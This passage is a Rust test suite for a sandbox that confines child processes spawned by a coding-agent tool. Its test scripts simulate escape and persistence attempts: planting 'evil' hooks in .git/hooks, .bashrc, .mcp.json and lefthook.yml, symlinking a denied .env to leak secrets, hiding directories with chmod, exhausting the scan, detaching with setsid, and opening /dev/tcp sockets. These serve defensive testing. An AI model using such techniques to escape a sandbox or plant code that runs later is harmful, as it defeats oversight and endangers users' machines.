        .map(|(step, dir, aside, plant)| {
            format!("(mv {dir} {aside} && mkdir {dir} && {plant}); echo {step}=$?; ")
        })
        .collect();
    script.push_str(
        "rmdir pkg/web 2>/dev/null; echo g=$?; echo fine > notes.md; echo ok=$?; \
         echo fine > pkg/web/index.html && mkdir apps/repo/src && mv pkg/web/index.html \
         pkg/web/main.html; echo inside=$?",
    );
    let out = p
        .spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
        .await
        .unwrap();
    let text = stdout(&out);
    let all = format!("{text}{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("ok=0"), "{all}");
    assert!(
        text.contains("inside=0"),
        "a pinned directory is written in as before: {all}"
    );
    for step in ["a", "b", "c", "d", "e", "f", "g"] {
        let done = format!("{step}=0");
        assert!(!text.lines().any(|l| l == done), "{step}: {all}");
    }
    assert!(repo.join(".git/HEAD").exists());
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    for (file, text) in [
        (fx.root.join("pkg/web/.mcp.json"), "as it was\n"),
        (denied.clone(), "as it was\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(&file).unwrap(),
            text,
            "{}",
            file.display()
        );
    }
    for moved in [
        "apps/old", "apps-old", "pkg/old", "pkg-old", "conf/old", "conf-old",
    ] {
        assert!(!fx.root.join(moved).exists(), "{moved}");
    }
}

// guarantee: G-KERN-05
/// A deny rule for a place that does not exist yet cannot be a mount in a child's namespace, so
/// a child could make it lead elsewhere: a link at a denied `.env` to a file of its own reach
/// (the user's next `cp .env.example .env` writes the secrets through it, where the next call
/// reads them), a second name of such a file (a hard link), a denied directory holding a link,
/// a link where the directory of a denied place would be.
/// Each is set aside when the child ends and the call refused. A plain file the child made
/// there is left, and covered from the next child on, as one the user makes meanwhile is; a
/// child that leaves them alone runs as before. Checked on disk.
#[tokio::test]
async fn what_a_child_makes_at_a_denied_place_is_set_aside() {
    let fx = fixture();
    std::fs::create_dir_all(fx.root.join("conf")).unwrap();
    std::fs::create_dir_all(fx.root.join("notes")).unwrap();
    let env = fx.root.join(".env");
    let plain = fx.root.join("conf/secret.toml");
    let hard = fx.root.join("conf/hard.toml");
    let keys = fx.root.join("keys");
    let vaulted = fx.root.join("vault/prod.key");
    let p = writing_spawner_with(&fx, None, None, &[&env, &plain, &hard, &keys, &vaulted]);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "echo fine > notes/todo.md"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(out.exit_code, Some(0));
    // (`conf` lies above a denied place, so it is a mount of its own: the hard link is made
    // inside it.)
    let script = "ln -s notes/leak.txt .env; echo a=$?; echo x > conf/secret.toml; echo b=$?; \
                  echo y > conf/n; ln conf/n conf/hard.toml; echo c=$?; \
                  mkdir keys && ln -s ../notes/k keys/prod.key; echo d=$?; \
                  ln -s notes vault; echo e=$?";
    let err = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap_err();
    for name in [".env", "hard.toml", "keys", "vault"] {
        assert!(err.to_string().contains(name), "{name}: {err}");
    }
    assert!(!err.to_string().contains("secret.toml"), "{err}");
    refused_for(Err(err), ".env");
    for place in [&env, &hard, &keys, &fx.root.join("vault")] {
        assert!(
            std::fs::symlink_metadata(place).is_err(),
            "{} stayed",
            place.display()
        );
    }
    assert!(
        std::fs::symlink_metadata(fx.root.join(".env.refused-by-toolcap"))
            .is_ok_and(|m| m.file_type().is_symlink())
    );
    // The plain file stays, and the next child finds it covered.
    assert_eq!(std::fs::read_to_string(&plain).unwrap(), "x\n");
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "cat conf/secret.toml; echo read=$?"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    let text = stdout(&out);
    assert!(!text.contains("x\n") && !text.contains("read=0"), "{text}");
}

// guarantee: G-FS-11
/// The places that run later whose names do not start with a dot (lefthook's `lefthook.yml`,
/// run at the next commit; rustup's `rust-toolchain.toml`, bun's `bunfig.toml`, at the next
/// build) are kept from a child where they exist, as the dotted ones are: the walk that finds
/// them once passed over every name without a dot, and a child rewrote them. And where they
/// do not exist, one it makes is set aside. Checked on disk.
#[tokio::test]
async fn a_child_cannot_change_the_places_without_a_dot_that_run_later() {
    let fx = fixture();
    let kept = [
        "lefthook.yml",
        "lefthook-local.yaml",
        "rust-toolchain.toml",
        "rust-toolchain",
        "bunfig.toml",
    ];
    for name in kept {
        std::fs::write(fx.root.join(name), "as it was\n").unwrap();
    }
    let p = writing_spawner(&fx);
    let script: String = kept
        .iter()
        .map(|name| format!("echo evil >> {name}; echo {name}=$?; "))
        .chain(std::iter::once(
            "echo fine > notes.md; echo ok=$?".to_owned(),
        ))
        .collect();
    let out = p
        .spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
        .await
        .unwrap();
    let text = stdout(&out);
    assert!(text.contains("ok=0"), "{text}");
    for name in kept {
        let done = format!("{name}=0");
        assert!(!text.lines().any(|l| l == done), "{name}: {text}");
        assert_eq!(
            std::fs::read_to_string(fx.root.join(name)).unwrap(),
            "as it was\n",
            "{name}"
        );
    }
    refused_for(
        p.spawn(
            "sh",
            &argv(&[
                "-c",
                "echo 'pre-commit: {commands: {x: {run: evil}}}' > lefthook.yaml",
            ]),
            SpawnOptions::default(),
        )
        .await,
        "lefthook.yaml",
    );
    assert!(!fx.root.join("lefthook.yaml").exists());
}

// guarantee: G-FS-11
/// Where names are not told apart (Windows' drives under WSL, casefold, HFS+), `.mcp.json.`,
/// `.cla\u{200D}ude` and `.ba\u{17F}hrc` are `.mcp.json`, `.claude` and `.bashrc`: one a
/// child makes is set aside when it ends, as the ASCII spellings are, and one that was there
/// is kept from it. Before, only ASCII case was folded, and both stayed. Checked on disk.
#[tokio::test]
async fn a_child_cannot_keep_a_place_that_runs_later_under_another_spelling() {
    let fx = fixture();
    let kept = fx.root.join(".ba\u{17F}hrc");
    std::fs::write(&kept, "as it was\n").unwrap();
    let p = writing_spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "echo evil >> .ba\u{17F}hrc; echo appended=$?"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert!(!stdout(&out).contains("appended=0"), "{}", stdout(&out));
    assert_eq!(std::fs::read_to_string(&kept).unwrap(), "as it was\n");
    for made in [".mcp.json.", ".cla\u{200D}ude", ".vscode\u{FEFF}"] {
        let script = if made.starts_with(".mcp") {
            format!("echo '{{}}' > '{made}'")
        } else {
            format!("mkdir '{made}' && echo '{{}}' > '{made}/settings.json'")
        };
        refused_for(
            p.spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
                .await,
            made,
        );
        assert!(!fx.root.join(made).exists(), "{made} stayed");
    }
}

/// `git init` of `dir` (made first).
fn repository(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    let init = std::process::Command::new("git")
        .args(["init", "-q"])
        .arg(dir)
        .status()
        .unwrap();
    assert!(init.success());
}

/// Asserts that a spawn ran and printed exactly `want`.
fn says(result: Result<ProcessOutput, CapabilityError>, want: &str) {
    let out = result.unwrap();
    assert_eq!(
        stdout(&out),
        want,
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// Asserts that a spawn was not started because the walk for what children are kept from could
/// not look at everything (`NOT_AVAILABLE`), naming `name`.
fn not_started_for(result: Result<ProcessOutput, CapabilityError>, name: &str) {
    let err = result.unwrap_err();
    assert!(
        matches!(err, CapabilityError::NotAvailable(_)) && err.to_string().contains(name),
        "{err}"
    );
}

// guarantee: G-FS-09
// guarantee: G-FS-11
/// What a child is kept from (the repositories of its write roots, the `.mcp.json` files and
/// the rest of what runs later) is found by a walk at each spawn, and that walk stopped where its
/// budget ran out, leaving what lay past it writable. A child filled its write root with
/// directories, and the next child wrote a hook into a sibling repository (run by the user's
/// next checkout there, outside any sandbox) and rewrote a subdirectory's `.mcp.json`; a child
/// filled its working directory with files, and the next rewrote the `.mcp.json` there. Now the
/// walk looks at every entry within its levels, or the child is not started (`not_available`,
/// naming the directory where it stopped), and the child that filled it is refused as it ends.
/// Checked on disk.
#[tokio::test]
async fn a_child_cannot_use_up_the_search_for_what_it_is_kept_from() {
    let fx = fixture();
    repository(&fx.root.join("zz/repo"));
    std::fs::create_dir_all(fx.root.join("zz/web")).unwrap();
    std::fs::write(fx.root.join("zz/web/.mcp.json"), "as it was\n").unwrap();
    let deep = fx.root.join("a/b/c/d");
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::write(deep.join(".mcp.json"), "as it was\n").unwrap();
    let p = writing_spawner(&fx);
    let run = |script: &str, cwd: &Path| {
        let args = argv(&["-c", script]);
        let options = SpawnOptions::default()
            .cwd(cwd)
            .timeout(Duration::from_secs(120));
        let p = Arc::clone(&p);
        async move { p.spawn("sh", &args, options).await }
    };
    let unchanged = || {
        assert!(!fx.root.join("zz/repo/.git/hooks/post-checkout").exists());
        for mcp in [fx.root.join("zz/web/.mcp.json"), deep.join(".mcp.json")] {
            assert_eq!(std::fs::read_to_string(&mcp).unwrap(), "as it was\n");
        }
    };
    // Thirty thousand files where the working directory is, read apart from the walk: the
    // `.mcp.json` among them is kept all the same.
    let files = "i=0; while [ $i -lt 30000 ]; do : > f$i; i=$((i+1)); done; echo made";
    let out = run(files, &deep).await.unwrap();
    assert_eq!(
        out.exit_code,
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = run("echo evil > .mcp.json; echo mcp=$?", &deep)
        .await
        .unwrap();
    assert!(
        stdout(&out).contains("mcp=") && !stdout(&out).contains("mcp=0"),
        "{}",
        stdout(&out)
    );
    unchanged();
    // More directories beside the repository than the walk reads.
    // The child that fills it is refused as it ends (what it made cannot all be looked at),
    // and the next is not started.
    let dirs = "mkdir $(i=0; while [ $i -lt 5000 ]; do echo d$i; i=$((i+1)); done) && echo made";
    let filled = run(dirs, &fx.root).await.unwrap_err();
    assert!(filled.to_string().contains("cannot be told"), "{filled}");
    let plant = "echo evil > zz/repo/.git/hooks/post-checkout; echo evil > zz/web/.mcp.json";
    match run(plant, &fx.root).await {
        Ok(out) => panic!("the child started: {}", stdout(&out)),
        Err(e) => not_started_for(Err(e), &fx.root.display().to_string()),
    }
    unchanged();
}

// guarantee: G-FS-11
/// A child working in a project's root made what runs later in the project's other directories,
/// where no mount could keep it since it did not exist: `packages/web/.mcp.json` (Claude Code
/// started in `packages/web` runs its servers), `packages/web/.vscode/tasks.json`, a `.bashrc`
/// in `apps/api`, a `.mcp.json` in a `packages/new` it made. Each directory the walk read is
/// looked at again when the child ends, with the directories the child made there, and what it made there is set aside and the call refused, as in its project
/// directories; a place the user had there already is left, and so is one the personality lists
/// among its write roots. Checked on disk.
#[tokio::test]
async fn what_a_child_makes_in_the_projects_other_directories_is_set_aside() {
    let fx = fixture();
    std::fs::create_dir_all(fx.root.join("packages/web")).unwrap();
    std::fs::create_dir_all(fx.root.join("apps/api/src")).unwrap();
    std::fs::write(fx.root.join("apps/api/.mcp.json"), "the user's\n").unwrap();
    let p = writing_spawner(&fx);
    let script = "echo '{}' > packages/web/.mcp.json; mkdir packages/web/.vscode; \
                  echo '{}' > packages/web/.vscode/tasks.json; echo evil > apps/api/.bashrc; \
                  mkdir -p packages/new/src && echo '{}' > packages/new/.mcp.json; \
                  echo fine > apps/api/src/main.rs";
    let err = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap_err();
    for made in [
        "packages/web/.mcp.json",
        "packages/web/.vscode",
        "apps/api/.bashrc",
        "packages/new/.mcp.json",
    ] {
        assert!(err.to_string().contains(made), "{made}: {err}");
        assert!(!fx.root.join(made).exists(), "{made} stayed");
        assert!(
            fx.root.join(format!("{made}.refused-by-toolcap")).exists(),
            "{made} was not set aside"
        );
    }
    assert_eq!(
        std::fs::read_to_string(fx.root.join("apps/api/.mcp.json")).unwrap(),
        "the user's\n"
    );
    assert_eq!(
        std::fs::read_to_string(fx.root.join("apps/api/src/main.rs")).unwrap(),
        "fine\n"
    );
    // Nothing made of the kind: the next child runs as before.
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "echo again > apps/api/src/main.rs"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(out.exit_code, Some(0));
}

// guarantee: G-FS-11
/// A look that cannot see everything still sets aside what it found: a child that made a
/// `.bashrc` in its write root and a directory it closed to everyone (`chmod 0`, which stops a
/// host that is not root) had the call refused and the `.bashrc` left where the user's next
/// shell runs it, the closed directory having stopped the whole look. Now the `.bashrc` is set
/// aside and the call refused, naming the directory that could not be looked into. As root (as
/// CI runs) the test runs itself again as `nobody`.
#[tokio::test]
async fn what_a_child_made_is_set_aside_though_another_of_its_directories_cannot_be_read() {
    const NAME: &str =
        "what_a_child_made_is_set_aside_though_another_of_its_directories_cannot_be_read";
    if again_as_nobody(NAME) {
        return;
    }
    let fx = fixture();
    let p = writing_spawner(&fx);
    let script = "echo evil > .bashrc; mkdir closed && echo x > closed/notes && chmod 0 closed";
    let err = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap_err();
    assert!(err.to_string().contains("closed"), "{err}");
    assert!(!fx.root.join(".bashrc").exists(), ".bashrc stayed: {err}");
    assert!(fx.root.join(".bashrc.refused-by-toolcap").exists(), "{err}");
    assert!(err.to_string().contains(".bashrc"), "{err}");
}

// guarantee: G-FS-11
/// Now that the walk looks at every directory within its levels, a workspace of a few hundred
/// projects, each with its editor's settings, has them all kept, and its children still start:
/// the limit on places kept for one child (past which none starts) is above what such a
/// workspace holds. Checked on disk.
#[tokio::test]
async fn a_workspace_of_many_projects_has_every_one_kept_and_its_children_start() {
    let fx = fixture();
    for i in 0..400 {
        std::fs::create_dir_all(fx.root.join(format!("p{i}/.vscode"))).unwrap();
    }
    let p = writing_spawner(&fx);
    let script = "echo '{}' > p399/.vscode/tasks.json; echo last=$?; \
                  echo '{}' > p0/.vscode/tasks.json; echo first=$?; echo made > p7/notes.md";
    let out = p
        .spawn("sh", &argv(&["-c", script]), SpawnOptions::default())
        .await
        .unwrap();
    let said = stdout(&out);
    assert!(said.contains("last=") && !said.contains("last=0"), "{said}");
    assert!(
        said.contains("first=") && !said.contains("first=0"),
        "{said}"
    );
    assert!(!fx.root.join("p399/.vscode/tasks.json").exists());
    assert_eq!(
        std::fs::read_to_string(fx.root.join("p7/notes.md")).unwrap(),
        "made\n"
    );
}

// guarantee: G-FS-09
/// A directory the walk cannot read hides what lies in it, and a child may take the read
/// permission of a directory it owns away and keep the others (`chmod 300`): it then wrote a hook
/// into the repository inside by name. A directory a child could enter (toolcap may, or owns it
/// and so may give the permission back: `chmod 0` of one it made stops the next child too) stops
/// the next child from starting (`not_available`, naming it), and the child that took the
/// permission of a directory the walk had read is refused as it ends; another account's that a child
/// cannot enter either (a container's volume, say) is passed. Only a host that is not root is
/// stopped by permission bits, so as root (as CI runs) the test runs itself again as `nobody`,
/// in a write root holding such a directory of root's.
#[tokio::test]
async fn a_child_cannot_hide_a_repository_by_taking_its_directorys_read_permission() {
    const NAME: &str = "a_child_cannot_hide_a_repository_by_taking_its_directorys_read_permission";
    const ROOT: &str = "TOOLCAP_TEST_WRITE_ROOT";
    let place = tempfile::tempdir().unwrap();
    if is_root() && std::env::var_os("TOOLCAP_TEST_AS_NOBODY").is_none() {
        use std::os::unix::fs::PermissionsExt as _;
        std::fs::set_permissions(place.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
        let root = place.path().join("w");
        std::fs::create_dir(&root).unwrap();
        std::os::unix::fs::chown(&root, Some(65534), Some(65534)).unwrap();
        let closed = root.join("volume");
        std::fs::create_dir(&closed).unwrap();
        std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o700)).unwrap();
        assert!(again_as_nobody_with(NAME, &[(ROOT, &root)]));
        return;
    }
    let mut fx = fixture();
    // Another account's directory a child cannot enter, where the run as root made one.
    if let Some(root) = std::env::var_os(ROOT) {
        fx.root = PathBuf::from(root);
    }
    repository(&fx.root.join("zz/repo"));
    let p = writing_spawner(&fx);
    let run = |script: &str| {
        let args = argv(&["-c", script]);
        let p = Arc::clone(&p);
        async move { p.spawn("sh", &args, SpawnOptions::default()).await }
    };
    says(run("echo fine").await, "fine\n");
    // Without its read permission (entered by name) or its search permission (given back by
    // the next child, which owns it).
    // Either child is refused as it ends, when what the directory holds is looked at again
    // and cannot be told: without the read permission it cannot be listed, without the search
    // permission its subdirectories cannot be asked whether the child made a repository in
    // them; and the next child's walk, which asks inside, does not start it.
    for mode in ["300", "600"] {
        match run(&format!("chmod {mode} zz")).await {
            Err(e) => assert!(
                e.to_string().contains("cannot be looked into"),
                "{mode}: {e}"
            ),
            Ok(_) => panic!("{mode}: the child that hid zz ended well"),
        }
        not_started_for(
            run("chmod 700 zz; echo evil > zz/repo/.git/hooks/post-checkout").await,
            &fx.root.join("zz").display().to_string(),
        );
        assert!(!fx.root.join("zz/repo/.git/hooks/post-checkout").exists());
        // Given its permissions back by the user, it stops nobody.
        use std::os::unix::fs::PermissionsExt as _;
        let open = std::fs::Permissions::from_mode(0o755);
        std::fs::set_permissions(fx.root.join("zz"), open).unwrap();
    }
    // One the child made and closed to everyone, itself included, it could open again: the
    // child is refused as it ends, and the next is not started.
    let closed = run("mkdir made && chmod 0 made").await.unwrap_err();
    assert!(
        closed.to_string().contains("cannot be looked into"),
        "{closed}"
    );
    not_started_for(
        run("echo evil > zz/repo/.git/hooks/post-checkout").await,
        &fx.root.join("made").display().to_string(),
    );
}

/// Asserts that a spawn was refused for what the child made (`PATH_NOT_REACHABLE`), naming
/// `name`.
fn refused_for(result: Result<ProcessOutput, CapabilityError>, name: &str) {
    let err = result.unwrap_err();
    assert!(
        matches!(
            err,
            CapabilityError::Denied {
                code: DenialCode::PathNotReachable,
                ..
            }
        ) && err.to_string().contains(name),
        "{err}"
    );
}

/// Runs the test `name` again in a copy of this test binary as `nobody`, when this process runs
/// as root (as CI does) and is not that run already: root ignores permission bits, which the
/// test is about. True when it ran there (and passed); the caller returns.
fn again_as_nobody(name: &str) -> bool {
    again_as_nobody_with(name, &[])
}

/// [`again_as_nobody`], with `env` set for the run as `nobody`.
fn again_as_nobody_with(name: &str, env: &[(&str, &Path)]) -> bool {
    if !is_root() || std::env::var_os("TOOLCAP_TEST_AS_NOBODY").is_some() {
        return false;
    }
    use std::os::unix::fs::PermissionsExt as _;
    let bin = tempfile::tempdir().unwrap();
    std::fs::set_permissions(bin.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    let exe = bin.path().join("process-test");
    copy_program(&std::env::current_exe().unwrap(), &exe);
    let out = std::process::Command::new("setpriv")
        .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
        .arg(&exe)
        .args(["--exact", name, "--nocapture"])
        .env("TOOLCAP_TEST_AS_NOBODY", "1")
        .env("TMPDIR", "/tmp")
        .envs(env.iter().copied())
        .current_dir(bin.path())
        .output()
        .unwrap();
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        out.status.success() && said.contains("1 passed"),
        "as nobody: {said}"
    );
    true
}

#[tokio::test]
async fn cwd_must_be_inside_the_read_reach() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "pwd"]),
            SpawnOptions::default().cwd(fx.root.join("sub")),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out).trim(), fx.root.join("sub").to_str().unwrap());
    let relative = p
        .spawn(
            "sh",
            &argv(&["-c", "pwd"]),
            SpawnOptions::default().cwd("sub"),
        )
        .await
        .unwrap();
    assert_eq!(
        stdout(&relative).trim(),
        fx.root.join("sub").to_str().unwrap(),
        "relative to the context's working dir"
    );
    assert_eq!(
        denial(
            p.spawn("true", &[], SpawnOptions::default().cwd("/etc"))
                .await
        ),
        (
            DenialCode::PathNotReachable,
            "read not permitted for /etc".to_owned()
        )
    );
    assert_eq!(
        denial(
            p.spawn(
                "true",
                &[],
                SpawnOptions::default().cwd(fx.root.join("etc-link"))
            )
            .await
        ),
        (
            DenialCode::PathNotReachable,
            "read not permitted for /etc".to_owned()
        ),
        "a symlink inside the root that leads out is refused"
    );
    assert_eq!(
        denial(
            p.spawn("true", &[], SpawnOptions::default().cwd("../.."))
                .await
        )
        .0,
        DenialCode::PathNotReachable
    );
}

#[tokio::test]
async fn stdin_is_written_and_closed() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "cat",
            &[],
            SpawnOptions::default().stdin("line one\nline two\n"),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "line one\nline two\n");
    let out = p.spawn("cat", &[], SpawnOptions::default()).await.unwrap();
    assert_eq!(
        stdout(&out),
        "",
        "no stdin means /dev/null, not the host's stdin"
    );
}

fn process_alive(pid: u32) -> bool {
    match std::fs::read_to_string(format!("/proc/{pid}/stat")) {
        Err(_) => false,
        Ok(stat) => {
            let state = stat
                .rsplit(')')
                .next()
                .and_then(|r| r.split_whitespace().next())
                .unwrap_or("");
            state != "Z" && state != "X"
        }
    }
}

/// A `sleep` argument no other process on the host has: how the host finds a grandchild from
/// its own side (pids printed inside the child's PID namespace mean nothing here).
fn marker() -> String {
    use std::sync::atomic::{AtomicU32, Ordering};
    static NEXT: AtomicU32 = AtomicU32::new(1);
    format!(
        "30.{}{:04}",
        std::process::id(),
        NEXT.fetch_add(1, Ordering::Relaxed)
    )
}

/// Host pids of live processes whose command line has `marker` as an argument.
fn alive_with(marker: &str) -> Vec<u32> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = entry.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) else {
            continue;
        };
        if cmdline.split(|b| *b == 0).any(|a| a == marker.as_bytes()) && process_alive(pid) {
            out.push(pid);
        }
    }
    out
}

/// Waits up to a second for every process carrying `marker` to be gone; returns the survivors.
async fn survivors(marker: &str) -> Vec<u32> {
    for _ in 0..50 {
        if alive_with(marker).is_empty() {
            return Vec::new();
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    alive_with(marker)
}

// guarantee: G-PROC-05
#[tokio::test]
async fn timeout_kills_the_whole_group() {
    let fx = fixture();
    let p = spawner(&fx);
    let m = marker();
    let started = std::time::Instant::now();
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", &format!("sleep {m} & sleep {m} & echo started; wait")]),
            SpawnOptions::default().timeout(Duration::from_millis(300)),
        )
        .await
        .unwrap();
    assert!(out.timed_out);
    assert_eq!(out.exit_code, None);
    assert!(matches!(out.signal, Some(15) | Some(9)), "{out:?}");
    assert_eq!(stdout(&out), "started\n");
    assert!(started.elapsed() < Duration::from_secs(10));
    assert_eq!(
        survivors(&m).await,
        [0u32; 0],
        "grandchildren survived the timeout"
    );
}

// guarantee: G-PROC-04
#[tokio::test]
async fn nothing_outlives_a_call_that_exits() {
    let fx = fixture();
    let p = spawner(&fx);
    let m = marker();
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", &format!("sleep {m} > /dev/null 2>&1 & echo started")]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(out.exit_code, Some(0));
    assert!(!out.timed_out);
    assert_eq!(
        survivors(&m).await,
        [0u32; 0],
        "a background child outlived the call"
    );
}

// guarantee: G-PROC-04, G-PROC-05
/// issue 13, class 4: a grandchild that leaves the process group (`setsid`) or holds the output
/// pipe open is ended with the call, and the call's wall time stays bounded by its timeout.
#[tokio::test]
async fn new_sessions_and_held_pipes_do_not_outlive_the_call() {
    let fx = fixture();
    let config = ProcessConfig::with_host_env(host_env())
        .scratch_root(fx.scratch.clone())
        .kill_grace(Duration::from_millis(200));
    let p = spawner_with(&fx, "\"sh\", \"setsid\"", "", config);
    let m = marker();
    // setsid(1) runs the sleep in a new session and process group, detached from the call's.
    let out = p
        .spawn(
            "sh",
            &argv(&[
                "-c",
                &format!("setsid sleep {m} > /dev/null 2>&1 < /dev/null & echo ok"),
            ]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!((out.exit_code, stdout(&out).as_str()), (Some(0), "ok\n"));
    assert_eq!(
        survivors(&m).await,
        [0u32; 0],
        "a setsid grandchild outlived the call"
    );

    // The same grandchild holding stdout open: the call returns when its program exits (the
    // namespace ends with it), and with a timeout it returns within it.
    let m = marker();
    let started = std::time::Instant::now();
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", &format!("setsid sleep {m} & echo ok")]),
            SpawnOptions::default().timeout(Duration::from_millis(1000)),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "ok\n");
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "the call waited {:?} for a held pipe",
        started.elapsed()
    );
    assert_eq!(survivors(&m).await, [0u32; 0]);

    let m = marker();
    let started = std::time::Instant::now();
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", &format!("setsid sleep {m} & sleep {m}")]),
            SpawnOptions::default().timeout(Duration::from_millis(500)),
        )
        .await
        .unwrap();
    assert!(out.timed_out);
    assert!(
        started.elapsed() < Duration::from_secs(5),
        "{:?}",
        started.elapsed()
    );
    assert_eq!(survivors(&m).await, [0u32; 0]);
}

#[tokio::test]
async fn output_is_capped_and_the_child_is_not_blocked() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "head -c 104857600 /dev/zero; echo done >&2"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(
        out.exit_code,
        Some(0),
        "the child ran to the end: the rest of its output was drained"
    );
    assert!(out.truncated);
    assert_eq!(out.stdout.len(), 1024 * 1024);
    assert_eq!(out.stderr.as_ref(), b"done\n");
}

#[tokio::test]
async fn death_by_signal_is_reported_as_a_signal() {
    let fx = fixture();
    let p = spawner(&fx);
    let out = p
        .spawn(
            "sh",
            &argv(&["-c", "kill -KILL $$"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(
        (out.exit_code, out.signal, out.timed_out),
        (None, Some(9), false)
    );
    let out = p
        .spawn("sh", &argv(&["-c", "exit 3"]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!((out.exit_code, out.signal), (Some(3), None));
}

// guarantee: G-PROC-01
#[tokio::test]
async fn a_multicall_binary_runs_under_the_allowed_name() {
    let fx = fixture();
    let bin = fx.root.join("bin");
    std::fs::create_dir(&bin).unwrap();
    let shell = Path::new("/bin/sh").canonicalize().unwrap();
    std::os::unix::fs::symlink(&shell, bin.join("allowedsh")).unwrap();
    std::os::unix::fs::symlink(&shell, bin.join("othersh")).unwrap();
    let config = ProcessConfig::with_host_env(host_env())
        .scratch_root(fx.scratch.clone())
        .search_path(vec![bin]);
    let p = spawner_with(&fx, "\"allowedsh\"", "", config);
    let out = p
        .spawn(
            "othersh",
            &argv(&["-c", "echo $0"]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_eq!(
        stdout(&out),
        "allowedsh\n",
        "same canonical file, but argv[0] is the allowed name"
    );
}

fn config(fx: &Fixture) -> ProcessConfig {
    ProcessConfig::with_host_env(host_env()).scratch_root(fx.scratch.clone())
}

// guarantee: G-KERN-01
#[tokio::test]
async fn children_are_confined_to_the_tools_reach() {
    let fx = fixture();
    std::fs::write(fx.root.join("in.txt"), "inside").unwrap();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "secret").unwrap();
    let process = spawner_under(&fx, "\"cat\", \"sh\"", "", config(&fx));

    let out = process
        .spawn(
            "cat",
            &argv(&["in.txt"]),
            SpawnOptions::default().cwd(&fx.root),
        )
        .await
        .unwrap();
    assert_eq!(stdout(&out), "inside");
    // The argv passes every check; the kernel still refuses the read.
    let out = process
        .spawn(
            "cat",
            &argv(&[secret.to_str().unwrap()]),
            SpawnOptions::default(),
        )
        .await
        .unwrap();
    assert_ne!(out.exit_code, Some(0));
    assert!(out.stdout.is_empty());
    assert!(String::from_utf8_lossy(&out.stderr).contains("Permission denied"));
    // Writes: the scratch home yes, the read-only reach no.
    let script = format!(
        "echo x > \"$HOME/f\" && cat \"$HOME/f\" && echo y > {}/g",
        fx.root.display()
    );
    let out = process
        .spawn("sh", &argv(&["-c", &script]), SpawnOptions::default())
        .await
        .unwrap();
    assert_eq!(stdout(&out), "x\n");
    assert_ne!(out.exit_code, Some(0));
    assert!(!fx.root.join("g").exists());
}

// guarantee: G-KERN-02
#[tokio::test]
async fn children_have_no_network() {
    let fx = fixture();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let process = spawner_under(&fx, "\"bash\"", "", config(&fx));
    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
    let out = process
        .spawn("bash", &argv(&["-c", &script]), SpawnOptions::default())
        .await
        .unwrap();
    assert_ne!(out.exit_code, Some(0));
    assert!(!stdout(&out).contains("connected"));
    assert!(listener.accept().is_err());
}

// guarantee: G-KERN-06
#[tokio::test]
async fn an_unconfinable_kernel_refuses_unless_the_personality_opts_out() {
    let fx = fixture();
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.txt");
    std::fs::write(&secret, "secret").unwrap();
    let forced = || config(&fx).sandbox_support(capability_sandbox::Support::unsupported("forced"));

    let process = spawner_under(&fx, "\"cat\"", "", forced());
    let err = process
        .spawn(
            "cat",
            &argv(&[secret.to_str().unwrap()]),
            SpawnOptions::default(),
        )
        .await
        .unwrap_err();
    assert_eq!(err.result_code(), capability_types::ErrorCode::NotAvailable);
    assert!(err.to_string().contains("forced"), "{err}");

